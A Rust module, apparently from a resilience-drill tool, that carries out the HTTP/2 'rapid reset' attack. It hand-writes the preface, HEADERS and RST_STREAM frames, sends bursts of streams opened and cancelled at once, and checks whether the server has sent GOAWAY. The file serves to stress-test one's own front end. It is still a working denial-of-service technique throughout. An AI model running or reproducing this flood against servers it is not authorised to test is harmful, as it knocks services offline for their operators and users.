//! Rapid reset: HTTP/2 streams opened and reset at once, so that the limit on concurrent streams never bites.
//!
//! The frames are written by hand: a library would notice that a stream is reset before its HEADERS left, and send
//! neither.

use super::super::headers::Request;
use super::super::wire::{self, Wire};
use super::{Force, Source};
use guichet_core::bounds::DRILL_RESET_STREAMS_MAX;
use std::io;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::timeout_at;

/// An attacker's patience with one burst.
const PATIENCE: Duration = Duration::from_secs(2);
/// Between writing a burst and looking whether the front has closed.
const LOOK: Duration = Duration::from_millis(2);

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const GOAWAY: u8 = 7;
const END_STREAM_AND_HEADERS: u8 = 0x5;
const CANCEL: u32 = 8;

/// One burst on the source's connection.
pub(super) async fn act(force: &Force, source: &Source) {
    match timeout_at(force.at_most(PATIENCE), burst(force, source)).await {
        Ok(Ok(())) => {}
        Ok(Err(_)) => force.cut(),
        Err(_) => force.failed(),
    }
}

async fn burst(force: &Force, source: &Source) -> io::Result<()> {
    let request = force.request(source);
    let kept = source.raw.borrow_mut().take();
    let mut wire = match kept {
        Some(wire) => wire,
        None => {
            let route = force.route(source, request.op).ok_or(io::ErrorKind::AddrNotAvailable)?;
            let mut wire = wire::connect(&route).await?;
            force.connected();
            wire.write_all(&preface()).await?;
            source.next_stream.set(1);
            wire
        }
    };
    let first = source.next_stream.get();
    let mut bytes = Vec::with_capacity(force.wave.burst as usize * 96);
    for n in 0..force.wave.burst {
        open_and_reset(&mut bytes, first + 2 * n, &request);
    }
    wire.write_all(&bytes).await?;
    wire.flush().await?;
    force.sent(force.wave.burst);
    source.next_stream.set(first + 2 * force.wave.burst);
    if still_open(&mut wire).await && source.next_stream.get() < DRILL_RESET_STREAMS_MAX {
        *source.raw.borrow_mut() = Some(wire);
        Ok(())
    } else {
        Err(io::ErrorKind::ConnectionAborted.into())
    }
}

/// Reads what came and tells whether the front still wants the connection.
async fn still_open(wire: &mut Wire) -> bool {
    let mut buf = [0_u8; 4096];
    let until = tokio::time::Instant::now() + LOOK;
    loop {
        match timeout_at(until, wire.read(&mut buf)).await {
            Ok(Ok(0) | Err(_)) => return false,
            // Only a frame at the start of a read is looked at; a GOAWAY elsewhere is followed by a close.
            Ok(Ok(n)) if n >= 9 && buf[3] == GOAWAY => return false,
            Ok(Ok(_)) => {}
            Err(_) => return true,
        }
    }
}

/// Connection preface, empty SETTINGS, and the acknowledgement of the front's, which it will have sent.
fn preface() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut bytes, 4, 0, 0, &[]);
    frame(&mut bytes, 4, 1, 0, &[]);
    bytes
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = payload.len() as u32;
    out.extend_from_slice(&length.to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// HEADERS that end the stream, and the RST_STREAM that takes them back.
fn open_and_reset(out: &mut Vec<u8>, stream: u32, request: &Request<'_>) {
    let mut block = vec![if request.op.method == "GET" { 0x82 } else { 0x83 }, 0x87];
    literal(&mut block, 4, &request.ask.path);
    literal(&mut block, 1, request.host);
    for (name, value) in request.lines {
        if name.eq_ignore_ascii_case("user-agent") {
            literal(&mut block, 58, value);
        }
    }
    frame(out, HEADERS, END_STREAM_AND_HEADERS, stream, &block);
    frame(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
}

/// A field with a name from HPACK's static table, not indexed, its value without Huffman coding (RFC 7541, 6.2.2).
fn literal(out: &mut Vec<u8>, name: u8, value: &str) {
    integer(out, 0x00, 4, u32::from(name));
    integer(out, 0x00, 7, value.len() as u32);
    out.extend_from_slice(value.as_bytes());
}

/// An integer with a prefix of `bits` bits (RFC 7541, 5.1).
fn integer(out: &mut Vec<u8>, first: u8, bits: u8, value: u32) {
    let most = (1_u32 << bits) - 1;
    if value < most {
        out.push(first | value as u8);
        return;
    }
    out.push(first | most as u8);
    let mut rest = value - most;
    while rest >= 128 {
        out.push((rest % 128) as u8 | 0x80);
        rest /= 128;
    }
    out.push(rest as u8);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn integers_as_in_the_examples_of_the_standard() {
        for (bits, value, expected) in [(5, 10, &[10_u8][..]), (5, 1337, &[31, 154, 10]), (8, 42, &[42])] {
            let mut out = Vec::new();
            if bits == 8 {
                integer(&mut out, 0, 7, value);
            } else {
                integer(&mut out, 0, bits, value);
            }
            assert_eq!(out, expected);
        }
    }
}
